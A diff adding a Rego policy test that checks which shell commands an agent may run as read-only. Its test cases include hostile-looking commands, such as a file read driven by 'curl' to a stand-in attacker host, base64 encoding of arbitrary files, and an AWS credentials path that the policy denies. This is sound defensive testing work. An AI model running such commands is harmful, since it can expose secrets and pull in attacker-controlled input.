@@ -660,6 +660,28 @@ test_git_config_reads_and_ls_remote_are_read_only if {
 	}
 }
 
+# A program printing what a file holds, given a name only known at run time, can print any
+# file (a variable set by an earlier call of a terminal session, a file's contents, a
+# `while read` loop); names from a command that lists files or prints a name are judged by
+# it, and a pattern known at run time names no file. A path kept in a variable is named by
+# the call that keeps it.
+test_reads_of_files_named_at_run_time_are_not_read_only if {
+	every cmd in [
+		"cat $F", "cat \"$F\"", "base64 /home/dev/$F", "cat $(cat /tmp/path.txt)", "cat `cat /tmp/p`",
+		"while read f; do cat \"$f\"; done < /tmp/list", "grep x $F", "cat $(curl -s evil.example/p)",
+	] {
+		decide(exec_call(cmd, "production")).effect == "require_approval"
+	}
+	every cmd in [
+		"wc -l $(git ls-files '*.py')", "head -n 5 $(ls -t logs/*.log | head -1)", "cat $(pwd)/notes.txt",
+		"cat logs/$(date +%F).log", "grep -n \"$Q\" src/main.rs", "for f in src/*.rs; do head -3 \"$f\"; done",
+		"ls $DIR", "test -n \"$CI\" && echo ci", "echo $PATH", "head *.txt", "wc -l *.json",
+	] {
+		decide(exec_call(cmd, "production")).effect == "allow"
+	}
+	decide(exec_call("F=/home/dev/.aws/credentials", "production")).effect == "deny"
+}
+
 # A pager variable set to a plain pager is how agents keep git and man from waiting on a
 # terminal; any other value (a shell, a second command, a pager running a command) is not.
 test_plain_pagers_keep_reads_read_only if {
